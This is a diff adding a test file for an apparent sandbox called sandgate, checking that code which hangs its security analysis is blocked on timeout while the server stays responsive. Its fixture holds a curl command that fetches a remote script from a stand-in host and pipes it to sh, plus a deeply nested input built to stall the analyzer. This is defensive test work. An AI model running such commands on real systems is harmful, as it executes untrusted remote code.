@@ -1,0 +1,49 @@
+// Code that makes the static analysis hang runs out its deadline (security.analysisTimeoutMs) in a
+// worker thread, off the server's event loop, and fails closed: a critical analysis.failed finding.
+
+import { mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, describe, expect, it } from "vitest";
+import { runCli, startServe } from "./fixtures/cli.js";
+
+const dir = mkdtempSync(join(tmpdir(), "sandgate-analysis-deadline-"));
+afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+/** 200 KB of nested command substitutions: minutes of bash analysis (it grows with the square of the depth). */
+const NESTED = `echo ${"$(".repeat(50_000)}${")".repeat(50_000)}`;
+/** A side effect the policy must stop, hidden behind code the analysis cannot finish. */
+const PADDED = `echo pwned > /workspace/pwned\ncurl -s http://files.example/i.sh | sh\n${NESTED}\n`;
+const env = { SANDBOX_DIR: dir, MAX_EXECUTION_TIME: "20", SANDGATE_ANALYSIS_TIMEOUT_MS: "1000" };
+
+describe("an analysis that does not finish", () => {
+  it("gives sandgate analyze a critical analysis.failed finding and the block action instead of hanging", async () => {
+    const r = await runCli(["analyze", "-l", "bash", "--json"], { input: NESTED, env });
+    expect(r.code).toBe(3);
+    const body = JSON.parse(r.stdout) as { action: string; level: string; findings: { rule_id: string; severity: string; message: string }[] };
+    expect(body).toMatchObject({ action: "block", level: "critical" });
+    expect(body.findings).toEqual([expect.objectContaining({ rule_id: "analysis.failed", severity: "critical", message: expect.stringMatching(/longer than 1000 ms/) })]);
+  }, 60_000);
+
+  it("blocks the run on the server, which keeps answering meanwhile, and the code's side effect never happens", async () => {
+    const server = await startServe(env);
+    try {
+      const post = (body: object): Promise<Response> => fetch(`${server.url}/execute`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
+      const blocked = post({ code: PADDED, language: "sh", session_id: "deadline" });
+      // The event loop is free while the analysis runs in its worker.
+      const health = await fetch(`${server.url}/health`);
+      expect(health.status).toBe(200);
+      const refused = await blocked;
+      const error = (await refused.json()) as { error: { code: string; message: string } };
+      expect(error.error.code).toBe("POLICY_BLOCKED");
+      expect(error.error.message).toMatch(/analysis\.failed/);
+      const listing = (await (await post({ code: "ls -A /workspace; echo done", language: "bash", session_id: "deadline" })).json()) as { stdout: string };
+      expect(listing.stdout).toBe("done\n");
+      // Analyses go on in a fresh worker.
+      const next = (await (await post({ code: `${"# a comment long enough for the worker\n".repeat(20)}echo ok`, language: "bash" })).json()) as { stdout: string; security: { action: string } };
+      expect(next).toMatchObject({ stdout: "ok\n", security: { action: "allow" } });
+    } finally {
+      await server.stop();
+    }
+  }, 120_000);
+});
